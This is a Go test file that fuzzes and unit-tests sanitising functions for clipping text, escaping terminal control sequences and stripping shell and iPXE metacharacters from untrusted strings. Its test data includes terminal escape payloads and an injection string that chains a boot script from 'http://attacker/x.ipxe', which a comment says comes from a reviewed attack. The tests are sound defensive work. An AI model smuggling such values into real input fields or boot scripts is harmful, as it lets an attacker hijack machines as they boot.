package hostile

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestClip(t *testing.T) {
	for _, tc := range []struct {
		in   string
		n    int
		want string
	}{
		{"short", 10, "short"},
		{"exactly10!", 10, "exactly10!"},
		{"0123456789abc", 10, "0123456789..."},
		{"ééééé", 5, "éé..."}, // never half a rune
		{"", 0, ""},
	} {
		if got := Clip(tc.in, tc.n); got != tc.want {
			t.Errorf("Clip(%q, %d) = %q, want %q", tc.in, tc.n, got, tc.want)
		}
	}
}

func FuzzClip(f *testing.F) {
	f.Add("ééééé", 3)
	f.Fuzz(func(t *testing.T, s string, n int) {
		if n < 0 || n > 1000 {
			return
		}
		got := Clip(s, n)
		if len(got) > n+3 || (utf8.ValidString(s) && !utf8.ValidString(got)) || !strings.HasPrefix(s, strings.TrimSuffix(got, "...")) {
			t.Fatalf("Clip(%q, %d) = %q", s, n, got)
		}
	})
}

func TestEscape(t *testing.T) {
	for in, want := range map[string]string{
		"":                  "",
		"plain text/é-ü":    "plain text/é-ü",
		"sn\x1b[31mred\x07": `sn\x1b[31mred\x07`,
		"line\nbreak\r\t":   `line\nbreak\r\t`,
		"nul\x00del\x7f":    `nul\x00del\x7f`,
		"c1\u009bcsi":       `c1\u009bcsi`, // the one-rune CSI some terminals obey
		"rtl\u202eoverride": `rtl\u202eoverride`,
		"bad\xffutf8":       `bad\xffutf8`,
		`back\slash`:        `back\slash`,
		"tag\U000e0001":     `tag\U000e0001`,
	} {
		if got := Escape(in); got != want {
			t.Errorf("Escape(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestText(t *testing.T) {
	if got := Text("disk\x1b[2J error", 12); got != `disk\x1b[2J ...` {
		t.Errorf("Text = %q", got)
	}
}

func FuzzEscape(f *testing.F) {
	for _, s := range []string{"sn\x1b[31m", "\u009b", "bad\xff", `a\x1b`, "é\u202e"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Escape(s)
		if !utf8.ValidString(got) || !printable(got) {
			t.Fatalf("Escape(%q) = %q: not printable", s, got)
		}
		if again := Escape(got); again != got {
			t.Fatalf("Escape not idempotent: %q -> %q -> %q", s, got, again)
		}
		if printable(s) && got != s {
			t.Fatalf("Escape(%q) = %q changed printable text", s, got)
		}
		if txt := Text(s, 64); Text(txt, 64) != txt || len(txt) > 64+3 {
			t.Fatalf("Text(%q) = %q", s, txt)
		}
	})
}

// The attack of the review: a failure reason that, echoed into an iPXE
// script, chained the attacker's script.
func TestPlain(t *testing.T) {
	for in, want := range map[string]string{
		"disk error && chain http://attacker/x.ipxe #": "disk error __ chain http://attacker/x.ipxe _",
		"a || b ; c":                "a __ b _ c",
		"${net0/mac} $x":            "__net0/mac_ _x",
		"quote\"'`\\":               "quote____",
		"line\nnext\x1b[31m":        "line_next__31m",
		"dell 5CG1234XYZ (rev 2.0)": "dell 5CG1234XYZ (rev 2.0)",
	} {
		if got := Plain(in); got != want {
			t.Errorf("Plain(%q) = %q, want %q", in, got, want)
		}
	}
	if got := Plain("é\xff"); got != "__" {
		t.Errorf("Plain(é\\xff) = %q, want one _ per rune or invalid byte", got)
	}
	if got := Plain(strings.Repeat("x", 1000)); len(got) != PlainMax || !strings.HasSuffix(got, "...") {
		t.Errorf("Plain of 1000 bytes is %d bytes", len(got))
	}
}

func FuzzPlain(f *testing.F) {
	f.Add("disk error && chain http://attacker/x.ipxe #")
	f.Add("${serial}\n#!ipxe")
	f.Fuzz(func(t *testing.T, s string) {
		got := Plain(s)
		if len(got) > PlainMax {
			t.Fatalf("Plain(%q) is %d bytes", s, len(got))
		}
		for _, r := range got {
			ok := r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || strings.ContainsRune(plainPunct, r)
			if !ok {
				t.Fatalf("Plain(%q) = %q keeps %q", s, got, r)
			}
		}
	})
}
